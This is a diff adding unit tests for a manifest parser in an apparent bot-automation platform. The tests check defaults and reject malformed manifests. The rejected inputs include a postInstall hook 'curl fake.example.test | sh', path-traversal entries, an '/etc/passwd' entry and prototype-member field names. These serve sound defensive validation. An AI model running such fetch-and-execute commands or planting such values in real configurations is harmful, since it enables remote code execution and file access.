@@ -1,0 +1,112 @@
+import { isOrderlyError } from '../errors';
+import { parseManifest } from './manifest';
+
+/** A valid manifest with only the required fields; tests change one thing at a time. */
+function manifest(overrides: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    name: 'fake-bot',
+    version: '1.2.3',
+    entry: 'src/index.ts',
+    segments: ['demo'],
+    input: {
+      type: 'object',
+      properties: {
+        memberId: { type: 'string', pattern: '^[A-Z0-9]{6,12}$' },
+        visits: { type: 'integer', minimum: 0 },
+      },
+      required: ['memberId'],
+    },
+    phi: ['memberId'],
+    ...overrides,
+  };
+}
+
+function problemOf(text: string): { code: string; message: string } {
+  try {
+    parseManifest(text);
+  } catch (err) {
+    if (isOrderlyError(err)) return { code: err.code, message: err.message };
+    throw err;
+  }
+  throw new Error('expected parseManifest to throw');
+}
+
+const invalid = (m: Record<string, unknown>) => problemOf(JSON.stringify(m));
+
+describe('parseManifest', () => {
+  it('parses a valid manifest and fills in the defaults', () => {
+    const { phi: _phi, ...withoutPhi } = manifest();
+    const parsed = parseManifest(JSON.stringify(withoutPhi));
+    expect(parsed.name).toBe('fake-bot');
+    expect(parsed.version).toBe('1.2.3');
+    expect(parsed.segments).toEqual(['demo']);
+    expect(parsed.phi).toEqual([]);
+    expect(parsed.phiSelectors).toEqual([]);
+    expect(parsed.hosts).toEqual([]);
+    expect(parsed.credentials).toEqual([]);
+    expect(parsed.timeoutSeconds).toBe(300);
+    expect(parsed.attempts).toBe(3);
+    expect(parsed.input.additionalProperties).toBe(false);
+    expect(parsed.input.required).toEqual(['memberId']);
+  });
+
+  it('keeps explicit values', () => {
+    const parsed = parseManifest(JSON.stringify(manifest({ hosts: ['portal.example.test:8443', '*.example.test', '[::1]:8080'], credentials: ['portal_login'], timeoutSeconds: 60, attempts: 1 })));
+    expect(parsed.hosts).toEqual(['portal.example.test:8443', '*.example.test', '[::1]:8080']);
+    expect(parsed.credentials).toEqual(['portal_login']);
+    expect(parsed.timeoutSeconds).toBe(60);
+    expect(parsed.attempts).toBe(1);
+    expect(parsed.phi).toEqual(['memberId']);
+  });
+
+  it('refuses malformed JSON', () => {
+    expect(problemOf('{"name": "fake-bot",').code).toBe('ORDERLY_E_MANIFEST_INVALID');
+    expect(problemOf('').code).toBe('ORDERLY_E_MANIFEST_INVALID');
+  });
+
+  it.each([
+    ['a JSON array', []],
+    ['an unknown top-level field', manifest({ postInstall: 'curl fake.example.test | sh' })],
+    ['an unknown field in an input property', manifest({ input: { type: 'object', properties: { memberId: { type: 'string', secret: true } } } })],
+    ['an unknown field in the input schema', manifest({ input: { type: 'object', properties: {}, patternProperties: {} } })],
+    ['additionalProperties: true', manifest({ input: { type: 'object', properties: {}, additionalProperties: true } })],
+    ['an upper-case name', manifest({ name: 'Fake-Bot' })],
+    ['a name with a path in it', manifest({ name: '../fake-bot' })],
+    ['a name with a double dash', manifest({ name: 'fake--bot' })],
+    ['a version that is not semver', manifest({ version: '1.2' })],
+    ['a version with build metadata', manifest({ version: '1.2.3+build.5' })],
+    ['a version with a leading zero', manifest({ version: '01.2.3' })],
+    ['a segment with a colon', manifest({ segments: ['demo:prod'] })],
+    ['an upper-case segment', manifest({ segments: ['Demo'] })],
+    ['no segments', manifest({ segments: [] })],
+    ['a phi field that is not an input property', manifest({ phi: ['ssn'] })],
+    ['a phi field named like an Object.prototype member', manifest({ phi: ['toString'] })],
+    ['a required field that is not declared', manifest({ input: { type: 'object', properties: { memberId: { type: 'string' } }, required: ['dateOfBirth'] } })],
+    ['a required field named like an Object.prototype member', manifest({ input: { type: 'object', properties: { memberId: { type: 'string' } }, required: ['constructor'] } })],
+    ['an invalid regex pattern', manifest({ input: { type: 'object', properties: { memberId: { type: 'string', pattern: '([A-Z' } } } })],
+    ['an unknown field type', manifest({ input: { type: 'object', properties: { memberId: { type: 'array' } } } })],
+    ['an entry with `..`', manifest({ entry: '../outside.js' })],
+    ['an entry with `..` in the middle', manifest({ entry: 'src/../../outside.js' })],
+    ['an absolute entry', manifest({ entry: '/etc/passwd' })],
+    ['an entry with a `./` segment', manifest({ entry: './src/index.ts' })],
+    ['a timeout over an hour', manifest({ timeoutSeconds: 3601 })],
+    ['zero attempts', manifest({ attempts: 0 })],
+    ['a host pattern with a scheme', manifest({ hosts: ['https://portal.example.test'] })],
+    ['a host pattern with a path', manifest({ hosts: ['portal.example.test/admin'] })],
+    ['a bare wildcard host', manifest({ hosts: ['*'] })],
+    ['an upper-case credential name', manifest({ credentials: ['Portal'] })],
+  ])('refuses %s with ORDERLY_E_MANIFEST_INVALID', (_what, m) => {
+    expect(problemOf(JSON.stringify(m)).code).toBe('ORDERLY_E_MANIFEST_INVALID');
+  });
+
+  it('names every problem by path in one error', () => {
+    const { message } = invalid(manifest({ version: 'latest', entry: '../x.js' }));
+    expect(message).toContain('version');
+    expect(message).toContain('entry');
+    expect(message).not.toContain('(manifest):'); // field-level paths, not a generic one
+  });
+
+  it('names the phi problem by path', () => {
+    expect(invalid(manifest({ phi: ['ssn'] })).message).toMatch(/phi: every phi field must be an input property/);
+  });
+});
